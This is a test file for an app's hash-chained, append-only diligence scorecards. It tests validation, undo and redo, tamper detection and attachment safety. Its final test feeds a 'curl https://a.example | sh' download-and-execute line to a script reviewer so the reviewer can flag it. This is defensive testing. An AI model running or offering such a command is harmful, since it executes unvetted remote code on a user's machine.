/** Scorecards by their procedures: begun, answered, taken back, attached to; what is refused and why. */
import { existsSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { createHash } from 'node:crypto'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { scenarios } from '../../../electron/database/scenarios.ts'
import { canonicalJson } from '../../../shared/diligence/canonical-json.ts'
import { computedNet, exitSlippageRatio } from '../../../shared/diligence/computed-answer.ts'
import type { Answer, EntryBody } from '../../../shared/diligence/entry.ts'
import { standingCard } from '../../../shared/diligence/standing.ts'
import type { ScenarioBody } from '../../../shared/scenario.ts'
import { doneJob, item, net } from '../../shared/diligence/cards.ts'
import { entriesOf, worked } from '../../shared/economics/given.ts'
import { answer, begun, checklist, day, noon, openScorecards, standing } from './scorecard-book.ts'

const dayMs = 86_400_000
const digestOf = (text: string) => createHash('sha256').update(text).digest('hex')

describe('DX1 a card', () => {
  test('begins with its checklist and what the facts that ship say of its network, as one step of the journal', async () => {
    const opened = openScorecards()
    const card = await begun(opened, { networkId: 'alpha' })
    expect(card).toMatchObject({
      revision: 1,
      body: { name: 'Alpha', networkId: 'alpha', roles: ['buyer'] },
      entries: [
        { sequence: 1, body: { kind: 'checklist' } },
        { sequence: 2, recordedAtUtcMs: noon, origin: null, body: { kind: 'answer', value: 'partly' } },
      ],
      damage: [],
    })
    const { keptChecklists, scorecards } = await opened.scorecard.list()
    expect(scorecards).toEqual([card])
    expect(standing(card, keptChecklists)).toEqual({ uptime: 'partly' })
    expect(await opened.journal.undo()).toEqual({ undo: null, redo: 'The new scorecard “Alpha”' })
    expect((await opened.scorecard.list()).scorecards).toEqual([])
    await opened.journal.redo()
    expect((await opened.scorecard.list()).scorecards).toMatchObject([{ id: card.id, entries: card.entries }])
  })

  test('may be the second for its network, and by a checklist of one’s own', async () => {
    const opened = openScorecards()
    const own = await opened.scorecard.saveChecklist({
      id: null,
      revision: 0,
      body: { ...checklist, id: 'mine', items: [item('taste')] },
    })
    await begun(opened, { networkId: 'alpha' })
    const card = await opened.scorecard.begin({
      name: 'Alpha again',
      networkId: 'alpha',
      roles: ['investor', 'buyer'],
      checklist: own.id,
    })
    // Of the starter's answers none is to a question of this list.
    expect(card.entries).toHaveLength(1)
    await opened.scorecard.removeChecklist({ id: own.id, revision: 1 })
    const listing = await opened.scorecard.list()
    expect(listing.scorecards).toHaveLength(2)
    expect(standingCard(card.entries, listing.keptChecklists, day).items.map(({ id }) => id)).toEqual([
      'taste',
    ])
    await expect(
      opened.scorecard.begin({ name: 'x', networkId: null, roles: ['buyer'], checklist: own.id }),
    ).rejects.toMatchObject({ code: 'NOT_FOUND' })
    // What every object has is no checklist.
    await expect(
      opened.scorecard.begin({ name: 'x', networkId: null, roles: ['buyer'], checklist: 'constructor' }),
    ).rejects.toMatchObject({ code: 'NOT_FOUND' })
  })

  test('is chained: each digest is that of the one before, a line feed and the canonical JSON', async () => {
    const opened = openScorecards()
    const card = await begun(opened)
    await opened.scorecard.append({ id: card.id, bodies: [answer('uptime', 'no')] })
    const rows = opened.book.read((read) =>
      read.all<{ digest: string }>('SELECT digest FROM scorecard_entries ORDER BY sequence'),
    )
    let previous = '0'.repeat(64)
    const { scorecards } = await opened.scorecard.list()
    for (const [at, { body, origin, recordedAtUtcMs, sequence }] of scorecards[0]!.entries.entries()) {
      const text = canonicalJson({ sequence, recordedAtUtcMs, origin, card: card.id, body })
      previous = digestOf(`${previous}\n${text}`)
      expect(rows[at]).toEqual({ digest: previous })
    }
    expect(scorecards[0]!.headDigest).toBe(previous)
  })

  test('is renamed by its revision, and its network stays', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened, { networkId: 'alpha' })
    const saved = await opened.scorecard.save({ id, revision: 1, name: 'A', roles: ['investor'] })
    expect(saved).toMatchObject({ revision: 2, body: { name: 'A', networkId: 'alpha', roles: ['investor'] } })
    await expect(
      opened.scorecard.save({ id, revision: 1, name: 'B', roles: ['buyer'] }),
    ).rejects.toMatchObject({ code: 'CONFLICT' })
  })

  test('that is removed comes back by undo with its entries, and its id repeats no revision', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    const card = await opened.scorecard.append({ id, bodies: [answer('uptime', 'no')] })
    await opened.scorecard.remove({ id, revision: 1 })
    await expect(opened.scorecard.append({ id, bodies: [answer('uptime', 'yes')] })).rejects.toMatchObject({
      code: 'NOT_FOUND',
    })
    await opened.journal.undo()
    expect((await opened.scorecard.list()).scorecards).toMatchObject([
      { id, revision: 2, entries: card.entries, damage: [] },
    ])
  })

  test('keeps all or none of what is added at once', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    await expect(
      opened.scorecard.append({ id, bodies: [answer('uptime', 'no'), answer('nothing', 'no')] }),
    ).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: 'Nothing was added: of entry 2 of 2 the card does not ask “nothing” and never did.',
    })
    expect((await opened.scorecard.list()).scorecards[0]!.entries).toHaveLength(1)
  })
})

describe('DX1 the database refuses', () => {
  test.each([
    ['a change', `UPDATE scorecard_entries SET body_json = '{}'`, 'never changed'],
    ['a deletion', 'DELETE FROM scorecard_entries', 'never deleted'],
    [
      'a replacement',
      `INSERT OR REPLACE INTO scorecard_entries SELECT card_id, sequence, 0, '{}', NULL, previous_digest, digest FROM scorecard_entries`,
      'only appended',
    ],
  ])('%s of an entry', async (_, sql, words) => {
    const opened = openScorecards()
    const card = await begun(opened)
    expect(() => opened.raw(sql)).toThrow(words)
    expect((await opened.scorecard.list()).scorecards).toEqual([card])
  })
})

describe('DG6 refused, in a sentence', () => {
  test.each([
    [
      'an answer seen in two days',
      answer('uptime', 'no', { seenOn: '2026-11-22' }),
      '“seen on 2026-11-22” lies after',
    ],
    [
      'a job run in two days',
      { ...doneJob, ranOn: '2026-11-22', billSha256: null },
      '“run on 2026-11-22” lies after',
    ],
    [
      'a payout of the day after tomorrow',
      {
        kind: 'payout',
        amount: '1',
        currency: 'USD',
        receivedOn: '2026-11-22',
        reference: 'bank',
        fileSha256: null,
        who: 'me',
      } as const,
      '“received on 2026-11-22” lies after',
    ],
    [
      'a step done in two days',
      {
        kind: 'permissions',
        jobId: 'first',
        permissions: [],
        stepsDone: [{ stepId: 'one', doneOn: '2026-11-22' }],
        who: 'me',
      } as const,
      '“done on 2026-11-22” lies after',
    ],
    [
      'a withdrawal of what is not there',
      { kind: 'withdrawal', sequence: 2, who: 'me' } as const,
      'no entry 2',
    ],
    [
      'a checklist that nobody has',
      { kind: 'checklist', sha256: 'a'.repeat(64), who: 'me' } as const,
      'no checklist',
    ],
    [
      'a milder item in the place of one of the checklist',
      { kind: 'own-item', item: item('uptime', { importance: 'low' }), who: 'me' } as const,
      'needs another id',
    ],
    [
      'an own item that is computed',
      { kind: 'own-item', item: item('x', { computation: 'net' }), who: 'me' } as const,
      'not computed',
    ],
    [
      'an own item whose exemption hangs on nothing',
      {
        kind: 'own-item',
        item: item('x', { exemption: { words: 'never', circumstanceId: 'nowhere', holdsWhen: 'no' } }),
        who: 'me',
      } as const,
      'no circumstance “nowhere”',
    ],
    [
      'a record that ends before it begins',
      {
        kind: 'record',
        of: 'paid-usage',
        usd: 1,
        from: '2026-11-02',
        to: '2026-11-01',
        transaction: '0x1',
        link: 'https://example.org',
        who: 'me',
      } as const,
      'lies after its last',
    ],
    [
      'a file that is not attached',
      answer('uptime', 'no', { fileSha256: 'b'.repeat(64) }),
      'attach it first',
    ],
  ])('%s', async (_, body, words) => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    await expect(opened.scorecard.append({ id, bodies: [body] })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: expect.stringContaining(words),
    })
    expect((await opened.scorecard.list()).scorecards[0]!.entries).toHaveLength(1)
  })

  test('but not what is seen today or, where the local day runs ahead, tomorrow, an own item with its answer, or a withdrawal of what comes with it', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    const card = await opened.scorecard.append({
      id,
      bodies: [
        answer('uptime', 'no'),
        { kind: 'withdrawal', sequence: 2, who: 'me' },
        { kind: 'own-item', item: item('own'), who: 'me' },
        answer('own', 'yes'),
        answer('has-token', 'no', { seenOn: '2026-11-21' }),
      ],
    })
    expect(standing(card, (await opened.scorecard.list()).keptChecklists)).toEqual({
      own: 'yes',
      'has-token': 'no',
    })
  })

  test('an answer to what an earlier checklist asked is still taken', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    const own = await opened.scorecard.saveChecklist({
      id: null,
      revision: 0,
      body: { ...checklist, items: [item('taste')] },
    })
    const adopted = await opened.scorecard.adoptChecklist({ id, checklist: own.id })
    const { keptChecklists } = await opened.scorecard.list()
    expect(standingCard(adopted.entries, keptChecklists, day).items.map((each) => each.id)).toEqual(['taste'])
    await opened.scorecard.append({ id, bodies: [answer('taste', 'yes'), answer('uptime', 'no')] })
  })
})

const rented = entriesOf(worked)

describe('DX9 a computed answer is what the engine computes', () => {
  const own = { sizeUsd: 1_000, depthUsd: 100_000, depthClass: 'on-chain-record', poolFeeRatio: 0 } as const
  const sells = (given: object = {}, basis: object = {}): Answer =>
    answer('sells', 'yes', {
      class: 'on-chain-record',
      // $1,000 into $100,000 at no fee: 1 - 100/101.
      computed: {
        by: 'exit',
        ...own,
        slippageRatio: exitSlippageRatio(own),
        slippageLimitRatio: 0.02,
        ...basis,
      },
      ...given,
    })
  const refusals: readonly (readonly [string, Answer, string])[] = [
    ['another slippage', sells({}, { slippageRatio: 0 }), 'is not what the engine computes'],
    ['a size above what the pool can take', sells({}, { sizeUsd: 1e9 }), 'computes “no” and not “yes”'],
    ['another value', sells({ value: 'no' }), 'computes “yes” and not “no”'],
    ['another class', sells({ class: 'own-measurement' }), 'is of the class “on-chain-record”'],
    ['nothing to sell', sells({}, { sizeUsd: 0 }), 'not above zero'],
    ['a limit above a fifth', sells({}, { slippageLimitRatio: 0.21 }), 'bodies.0'],
    ['an item that is not computed', sells({ itemId: 'uptime' }), '“uptime” is not an item'],
    ['an item that is computed otherwise', sells({ itemId: 'nets' }), 'as “exit”'],
    [
      'a scenario that nobody has',
      answer('nets', 'yes', { computed: net({ scenarioId: 'nowhere' }) }),
      'the scenario was changed or is gone: compute it again',
    ],
  ]
  test.each(refusals)('%s is refused', async (_, body, words) => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    await expect(opened.scorecard.append({ id, bodies: [body] })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: expect.stringContaining(words),
    })
    await opened.scorecard.append({ id, bodies: [sells()] })
  })

  test('from the scenario of the book at its revision, and from no other figures', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    const body: ScenarioBody = { schema: 1, name: 'Mine', rigId: null, networkId: null, inputs: rented }
    const saved = opened.book.write((write) =>
      scenarios.save(write, { id: null, revision: 0, body }, { nowUtcMs: noon, newId: () => 's-1' }),
    )
    const computed = computedNet({ id: saved.id, name: 'Mine', revision: 1, entries: rented })
    if (computed.kind === 'unanswered') throw new Error(computed.reason)
    const nets = (basis: object = {}, given: object = {}) =>
      answer('nets', computed.value, {
        class: computed.class,
        computed: { ...computed.basis, ...basis },
        ...given,
      })
    const other = computed.value === 'yes' ? 'no' : 'yes'
    for (const [body, words] of [
      [nets({ usageOnlyUsd: computed.basis.usageOnlyUsd + 1 }), 'not what the engine computes'],
      [nets({ scenarioRevision: 2 }), 'the scenario was changed or is gone'],
      [nets({}, { value: other }), `computes “${computed.value}”`],
      [nets({}, { class: 'claim' }), 'and not “claim”'],
    ] as const)
      await expect(opened.scorecard.append({ id, bodies: [body] })).rejects.toThrow(words)
    await opened.scorecard.append({ id, bodies: [nets()] })
    opened.book.write((write) =>
      scenarios.save(
        write,
        { id: 's-1', revision: 1, body: { ...body, name: 'Mine again' } },
        { nowUtcMs: noon, newId: () => 's-2' },
      ),
    )
    await expect(opened.scorecard.append({ id, bodies: [nets()] })).rejects.toThrow('compute it again')
  })

  test('whatever a checklist set aside says of the item', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    const theirs = openScorecards()
    const { id: list } = await theirs.scorecard.saveChecklist({
      id: null,
      revision: 0,
      body: { ...checklist, items: [item('sells')] },
    })
    const card = await theirs.scorecard.begin({
      name: 'X',
      networkId: null,
      roles: ['buyer'],
      checklist: list,
    })
    const { text } = await theirs.scorecard.exportCard({ id: card.id })
    const { headDigest } = await opened.scorecard.importPreview({ text, as: 'theirs', intoId: id })
    await opened.scorecard.importCard({ text, as: 'theirs', intoId: id, headDigest, take: [] })
    await opened.scorecard.append({ id, bodies: [sells()] })
  })
})

function own(from: number, to: number): EntryBody[] {
  return Array.from({ length: to - from }, (_, at) => {
    return { kind: 'own-item', item: item(`own-${from + at}`), who: 'me' }
  })
}

test('DX9 a card has at most 400 items of one’s own', async () => {
  const opened = openScorecards()
  const { id } = await begun(opened)
  await opened.scorecard.append({ id, bodies: own(0, 200) })
  await opened.scorecard.append({ id, bodies: own(200, 400) })
  // The same one said again is not one more.
  await opened.scorecard.append({ id, bodies: own(0, 1) })
  await expect(opened.scorecard.append({ id, bodies: own(400, 401) })).rejects.toThrow(
    'Nothing was added: a card has at most 400 items of one’s own, and these would be 401.',
  )
})

describe('DX4 undo appends, and so does redo', () => {
  test('any past day is reproduced from the rows', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    const steps: readonly (() => Promise<unknown>)[] = [
      () => opened.scorecard.append({ id, bodies: [answer('uptime', 'no'), answer('support', 'yes')] }),
      () => opened.journal.undo(),
      () => opened.journal.redo(),
      () => opened.scorecard.append({ id, bodies: [answer('uptime', 'yes')] }),
      () => opened.journal.undo(),
      () => opened.journal.undo(),
      () => opened.journal.redo(),
      () => opened.journal.redo(),
    ]
    for (const step of steps) {
      opened.clock.now += dayMs
      await step()
    }
    const { scorecards, keptChecklists } = await opened.scorecard.list()
    expect(scorecards[0]!.damage).toEqual([])
    const on = (days: number) =>
      standing(scorecards[0]!, keptChecklists, new Date(noon + days * dayMs).toISOString().slice(0, 10))
    const both = { uptime: 'no', support: 'yes' }
    // What a person saw on each of these days, step by step.
    expect([0, 1, 2, 3, 4, 5, 6, 7, 8].map(on)).toEqual([
      {},
      both,
      {},
      both,
      { uptime: 'yes', support: 'yes' },
      both,
      {},
      both,
      { uptime: 'yes', support: 'yes' },
    ])
  })

  test('in words, and a new entry clears what could be done again', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    await opened.scorecard.append({ id, bodies: [answer('uptime', 'no')] })
    expect((await opened.journal.state()).undo).toBe('Take back an answer of the scorecard “Alpha”')
    expect((await opened.journal.undo()).redo).toBe('The addition of an answer to the scorecard “Alpha”')
    await opened.scorecard.append({ id, bodies: [{ kind: 'note', text: 'Later.', who: 'me' }] })
    expect((await opened.journal.state()).redo).toBeNull()
  })
})

describe('DG6 a clock set back', () => {
  test('writes nothing into a day that was read already', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    opened.clock.now = noon + dayMs
    await opened.scorecard.append({ id, bodies: [answer('uptime', 'no')] })
    opened.clock.now = noon
    const card = await opened.scorecard.append({ id, bodies: [answer('uptime', 'yes')] })
    const { keptChecklists } = await opened.scorecard.list()
    expect(standing(card, keptChecklists, day)).toEqual({})
    expect(card.entries.map(({ recordedAtUtcMs }) => recordedAtUtcMs - noon)).toEqual([0, dayMs, dayMs])
    await opened.journal.undo()
    expect((await opened.scorecard.list()).scorecards[0]!.entries[3]!.recordedAtUtcMs).toBe(noon + dayMs)
  })

  test('by more than a day adds nothing, and says why', async () => {
    const opened = openScorecards()
    const { id } = await begun(opened)
    opened.clock.now = noon - dayMs - 1
    await expect(
      opened.scorecard.append({ id, bodies: [answer('uptime', 'no', { seenOn: '2026-11-01' })] }),
    ).rejects.toThrow(
      'Nothing was added: the newest entry of this card was recorded at 2026-11-20T12:00:00.000Z, and the clock of this computer says 2026-11-19T11:59:59.999Z.',
    )
    opened.clock.now += 1
    await opened.scorecard.append({ id, bodies: [answer('uptime', 'no', { seenOn: '2026-11-01' })] })
  })
})

describe('DX3 an attached file', () => {
  const base64 = Buffer.from('a bill').toString('base64')
  const sha256 = digestOf('a bill')

  test('lies under its digest, private, whatever it was called, and comes back as it was', async () => {
    const opened = openScorecards()
    for (const name of ['../../bill.pdf', 'bill again.pdf', 'a\u0000b'])
      expect(await opened.scorecard.attach({ name, base64 })).toMatchObject({
        sha256,
        bytes: 6,
        fileName: '../../bill.pdf',
      })
    expect(opened.filesKept()).toEqual([sha256])
    const file = join(opened.folder, 'attachments', sha256)
    expect((statSync(file).mode & 0o777).toString(8)).toBe('600')
    expect(readFileSync(file, 'utf8')).toBe('a bill')
    expect(await opened.scorecard.attachment({ sha256 })).toEqual({ name: '../../bill.pdf', base64 })
    const { id } = await begun(opened)
    await opened.scorecard.append({ id, bodies: [answer('uptime', 'no', { fileSha256: sha256 })] })
    expect((await opened.scorecard.list()).attachments).toMatchObject([{ sha256, bytes: 6, isHere: true }])
    rmSync(file)
    expect((await opened.scorecard.list()).attachments).toMatchObject([{ sha256, isHere: false }])
  })

  test('that is gone, changed or a link is named, is not shown, and can be attached again', async () => {
    const opened = openScorecards()
    await opened.scorecard.attach({ name: 'bill.pdf', base64 })
    const { id } = await begun(opened)
    const file = join(opened.folder, 'attachments', sha256)
    const spoil: readonly (readonly [string, () => void, string])[] = [
      ['changed', () => writeFileSync(file, 'a b1ll'), 'changed or damaged'],
      ['gone', () => rmSync(file), 'not in the data folder'],
      ['a link', () => symlinkSync('/etc/hostname', file), 'not in the data folder'],
    ]
    for (const [, work, words] of spoil) {
      work()
      await expect(opened.scorecard.attachment({ sha256 })).rejects.toThrow(words)
      await expect(
        opened.scorecard.append({ id, bodies: [answer('uptime', 'no', { fileSha256: sha256 })] }),
      ).rejects.toThrow('attach it first')
    }
    await opened.scorecard.attach({ name: 'bill.pdf', base64 })
    expect(await opened.scorecard.attachment({ sha256 })).toEqual({ name: 'bill.pdf', base64 })
  })

  test('without a byte is refused', async () => {
    const opened = openScorecards()
    await expect(opened.scorecard.attach({ name: 'bill.pdf', base64: '' })).rejects.toThrow(
      '“bill.pdf” was not attached: it is empty.',
    )
    expect(opened.filesKept()).toEqual([])
  })

  test('over 10 MiB is refused and leaves nothing', async () => {
    const opened = openScorecards()
    const most = Buffer.alloc(10 * 1024 * 1024)
    await expect(
      opened.scorecard.attach({
        name: 'film',
        base64: Buffer.concat([most, Buffer.from('x')]).toString('base64'),
      }),
    ).rejects.toThrow('at most 10,485,760 are kept')
    expect(opened.filesKept()).toEqual([])
    expect(await opened.scorecard.attach({ name: 'film', base64: most.toString('base64') })).toMatchObject({
      bytes: 10_485_760,
    })
  })
})

const otherDigest = `digest = iif(digest LIKE 'f%', 'e', 'f') || substr(digest, 2)`

describe('DX2 damage is named, what is intact is shown, and nothing is added', () => {
  const spoiled: readonly (readonly [string, string, readonly (number | null)[], readonly number[]])[] = [
    [
      'a letter of an answer',
      `UPDATE scorecard_entries SET body_json = replace(body_json, '"no"', '"yes"') WHERE sequence = 2`,
      [2],
      [1, 3, 4],
    ],
    [
      'a moved date',
      'UPDATE scorecard_entries SET recorded_at_utc_ms = recorded_at_utc_ms + 1 WHERE sequence = 3',
      [3],
      [1, 2, 4],
    ],
    ['a changed digest', `UPDATE scorecard_entries SET ${otherDigest} WHERE sequence = 3`, [3, 4], [1, 2, 4]],
    ['an entry taken out', 'DELETE FROM scorecard_entries WHERE sequence = 2', [2], [1, 3, 4]],
    ['the end taken off', 'DELETE FROM scorecard_entries WHERE sequence = 4', [null], [1, 2, 3]],
    ['all entries taken out', 'DELETE FROM scorecard_entries', [null], []],
    ['the head taken off', 'DELETE FROM scorecard_heads', [null], [1, 2, 3, 4]],
    ['a head of another entry', `UPDATE scorecard_heads SET ${otherDigest}`, [null], [1, 2, 3, 4]],
    [
      'an answer set aside',
      `UPDATE scorecard_entries SET origin_json = '{"aside":true}' WHERE sequence = 2`,
      [2],
      [1, 3, 4],
    ],
    ['the checklist gone', 'DELETE FROM kept_checklists', [1], [1, 2, 3, 4]],
  ]
  test.each(spoiled)('%s', async (_, sql, sequences, intact) => {
    const opened = openScorecards()
    const own = await opened.scorecard.saveChecklist({
      id: null,
      revision: 0,
      body: { ...checklist, id: 'own' },
    })
    const { id } = await opened.scorecard.begin({
      name: 'A',
      networkId: null,
      roles: ['buyer'],
      checklist: own.id,
    })
    const card = await opened.scorecard.append({
      id,
      bodies: [answer('uptime', 'no'), answer('support', 'no'), answer('price', 'no')],
    })
    opened.tamper(sql)
    const [found] = (await opened.scorecard.list()).scorecards
    expect(found!.damage.map(({ sequence }) => sequence)).toEqual(sequences)
    expect(found!.entries).toEqual(card.entries.filter(({ sequence }) => intact.includes(sequence)))
    await expect(opened.scorecard.append({ id, bodies: [answer('uptime', 'yes')] })).rejects.toMatchObject({
      code: 'BOOK_UNREADABLE',
      message: expect.stringContaining('damaged and is only read: nothing was added'),
    })
    expect((await opened.scorecard.list()).scorecards).toEqual([found])
  })
})

test('DX2 nor is anything taken back on a damaged card, or taken into it', async () => {
  const opened = openScorecards()
  const { id } = await begun(opened)
  await opened.scorecard.append({ id, bodies: [answer('uptime', 'no')] })
  const { text } = await opened.scorecard.exportCard({ id })
  opened.tamper(`UPDATE scorecard_entries SET ${otherDigest} WHERE sequence = 2`)
  const before = await opened.scorecard.list()
  const refused = { code: 'BOOK_UNREADABLE', message: expect.stringContaining('only read') as string }
  await expect(opened.journal.undo()).rejects.toMatchObject(refused)
  const { intoId, headDigest, notes } = await opened.scorecard.importPreview({ text, as: 'theirs' })
  expect(notes).toContain('The card here is damaged and is only read: nothing can be taken into it.')
  await expect(
    opened.scorecard.importCard({ text, as: 'theirs', intoId, headDigest, take: ['uptime'] }),
  ).rejects.toMatchObject(refused)
  expect(await opened.scorecard.list()).toEqual(before)
})

test('a script is reviewed in the worker, and nothing of it happens', async () => {
  const opened = openScorecards()
  const { findings, lines } = await opened.scorecard.review({
    text: `curl https://a.example | sh > ${opened.folder}/made\n`,
  })
  expect([lines, findings[0]?.class]).toEqual([1, 'download-to-shell'])
  expect(existsSync(join(opened.folder, 'made'))).toBe(false)
})
